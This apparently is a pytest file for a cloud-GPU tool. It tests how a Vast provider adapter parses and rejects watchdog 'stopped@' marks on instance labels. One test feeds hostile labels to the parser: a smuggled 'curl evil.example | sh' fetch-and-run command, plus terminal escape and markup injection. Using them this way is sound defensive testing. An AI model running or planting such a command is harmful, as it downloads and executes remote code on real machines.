"""The watchdog's stop mark on a Vast label: the recipe writes it before the stop, without a secret; the adapter
reads it strictly, as provider text, and every lookup by label still finds the marked instance."""

from __future__ import annotations

import json
from datetime import UTC, datetime

import pytest
import responses

from providers.base import split_stop_mark, stop_marked_label
from providers.vast import VastProvider
from remote.watchdog import expand

from .conftest import VAST_KEY, VAST_URL, load

V1_INSTANCES = VAST_URL.removesuffix("/api/v0") + "/api/v1/instances/"
STOPPED_AT = 1_765_000_000
WHEN = datetime.fromtimestamp(STOPPED_AT, tz=UTC)


def test_a_marked_label_gives_the_label_and_the_time() -> None:
    assert split_stop_mark(f"rentrain-job42|stopped@{STOPPED_AT}") == ("rentrain-job42", WHEN)
    assert split_stop_mark(stop_marked_label("rentrain-job42", str(STOPPED_AT))) == ("rentrain-job42", WHEN)
    label, at = split_stop_mark(f"rentrain-job42|stopped@{STOPPED_AT}.125")
    assert label == "rentrain-job42" and at is not None and at.timestamp() == STOPPED_AT + 0.125


@pytest.mark.parametrize(
    "label",
    [
        None,
        "rentrain-job42",
        "rentrain-job42|stopped@",
        "rentrain-job42|stopped@soon",
        "rentrain-job42|stopped@1765000000.",
        "rentrain-job42|stopped@1765000000.1234",
        "rentrain-job42|stopped@1765000000,5",
        "rentrain-job42|stopped@1e9",
        "rentrain-job42|stopped@-1765000000",
        "rentrain-job42|stopped@ 1765000000",
        "rentrain-job42|stopped@1765000000\n",
        "rentrain-job42|STOPPED@1765000000",
        "|stopped@1765000000",
        "rentrain-job42|stopped@1765000000|stopped@1765000001",
    ],
)
def test_a_malformed_mark_leaves_the_label_as_it_is(label: str | None) -> None:
    assert split_stop_mark(label) == (label, None)


@pytest.mark.parametrize(
    "at",
    [
        "12345678",  # 1970: too few digits
        "0765000000",  # a leading zero
        "17650000000",  # the year 2529
        "9" * 400,  # would overflow a datetime
    ],
)
def test_a_time_out_of_range_is_no_mark(at: str) -> None:
    label = f"rentrain-job42|stopped@{at}"
    assert split_stop_mark(label) == (label, None)


@pytest.mark.parametrize(
    "label",
    [
        "rentrain-job42|stopped@1765000000; curl evil.example | sh",
        "[bold red]rentrain-job42[/]\x1b[2J|stopped@1765000000x",
        "x" * 300 + "|stopped@1765000000",  # past Vast's 256 characters at create
    ],
)
def test_hostile_text_is_no_mark(label: str) -> None:
    assert split_stop_mark(label) == (label, None)


def _row(label: str, number: int = 1) -> dict[str, object]:
    row = dict(load("vast_instances.json")["instances"][0])
    return {**row, "id": 8000000 + number, "label": label, "actual_status": "stopped"}


def _listed(mocked: responses.RequestsMock, *labels: str) -> None:
    rows = [_row(label, number) for number, label in enumerate(labels)]
    page = {"success": True, "instances_found": len(rows), "next_token": None, "instances": rows}
    mocked.add(responses.GET, V1_INSTANCES, json=page)


def test_the_list_finds_a_marked_instance_by_its_jobs_label(mocked: responses.RequestsMock) -> None:
    _listed(mocked, f"rentrain-job42|stopped@{STOPPED_AT}", "rentrain-job420", f"someone-else|stopped@{STOPPED_AT}")
    found = VastProvider(VAST_KEY, VAST_URL).list_instances("rentrain-job42")
    assert [(i.label, i.watchdog_stopped_at) for i in found] == [("rentrain-job42", WHEN), ("rentrain-job420", None)]


def test_get_reads_the_mark(mocked: responses.RequestsMock) -> None:
    mocked.add(
        responses.GET, f"{VAST_URL}/instances/8000001/", json={"instances": _row(f"rentrain-a|stopped@{STOPPED_AT}")}
    )
    instance = VastProvider(VAST_KEY, VAST_URL).get("8000001")
    assert (instance.label, instance.status, instance.watchdog_stopped_at) == ("rentrain-a", "stopped", WHEN)


def test_the_recipe_marks_the_label_before_it_stops_without_a_secret() -> None:
    recipe = VastProvider(VAST_KEY, VAST_URL).self_destroy_recipe()
    assert VAST_KEY not in recipe.model_dump_json()
    assert "RENTRAIN_LABEL" in recipe.env_vars
    (mark,) = recipe.before_stop
    assert (mark.method, mark.url, mark.headers) == (
        recipe.stop[0].method,
        recipe.stop[0].url,
        {"Authorization": "Bearer $CONTAINER_API_KEY"},
    )
    env = {"CONTAINER_ID": "7", "CONTAINER_API_KEY": "ck-1", "RENTRAIN_LABEL": "rentrain-job42"}
    sent = json.loads(expand(mark.body or "", {**env, "RENTRAIN_NOW": f"{STOPPED_AT}.000"}))
    assert sent == {"label": f"rentrain-job42|stopped@{STOPPED_AT}.000"}  # 1024 characters at most (Vast's PUT)
    assert split_stop_mark(sent["label"]) == ("rentrain-job42", WHEN)
